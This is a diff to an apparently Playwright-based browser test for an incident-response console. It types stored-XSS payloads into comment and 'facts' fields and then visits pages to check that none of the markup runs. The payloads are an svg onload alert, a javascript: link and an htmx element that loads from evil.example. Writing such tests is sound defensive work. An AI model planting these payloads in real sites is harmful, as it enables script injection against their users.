@@ -32,6 +32,8 @@ FOR_HTMX = (
 ALL = (*hostile.MARKUP, *FOR_HTMX)
 #: A form takes no NUL, which is as good as it gets; hooks take it as an escape in their JSON.
 TYPED = "\n\n".join(text for text in ALL if "\x00" not in text)
+#: As much as a list of regions takes on one line.
+SHORT = "<svg/onload=alert(1)>[x](javascript:alert(1))<b hx-trigger=load hx-get=//evil.example/x>x</b>"
 TITLE = "".join(ALL[place] for place in (0, 1, 11))
 #: Whatever came to life. Scripts and pictures from our own folder, forms and fields are the console's own.
 ALIVE = """() => [...document.querySelectorAll('*')].filter(e => {
@@ -151,6 +153,11 @@ def type_everything(lead: Desk, incident: str, draft: str) -> None:
     page.get_by_role("textbox", name="Comment").fill(TYPED)
     lead.press("Add the comment")
     expect(lead.section("Comments").get_by_role("article")).to_have_count(1)
+    page = lead.go(f"{incident}/facts")
+    for field in page.locator("form[action$='/facts'] textarea").all():
+        field.evaluate("(field, text) => { field.value = text }", SHORT)
+    lead.press("Record the facts")
+    expect(lead.said).to_contain_text("Version 1 of the facts is recorded")
     lead.go(incident).get_by_text("Change severity, category or title").click()
     page.get_by_label("Internal title").fill(TITLE)
     lead.press("Save the change")
@@ -181,7 +188,14 @@ def addresses(lead: Desk, incident: str, draft: str, hooks: list[str]) -> list[s
     return [
         *(f"/console/{screen}" for screen in screens),
         *(f"/console/quarantine/{hook}" for hook in hooks),
-        *(incident, draft, f"{draft}/edit", f"{draft}/versions/1", f"{draft}/versions/2"),
+        *(
+            incident,
+            f"{incident}/facts",
+            draft,
+            f"{draft}/edit",
+            f"{draft}/versions/1",
+            f"{draft}/versions/2",
+        ),
         *entries.values(),
         *mails,
         *("/", f"/incidents/{id_in(incident)}/", "/history/", "/nothing<script>alert(1)</script>"),
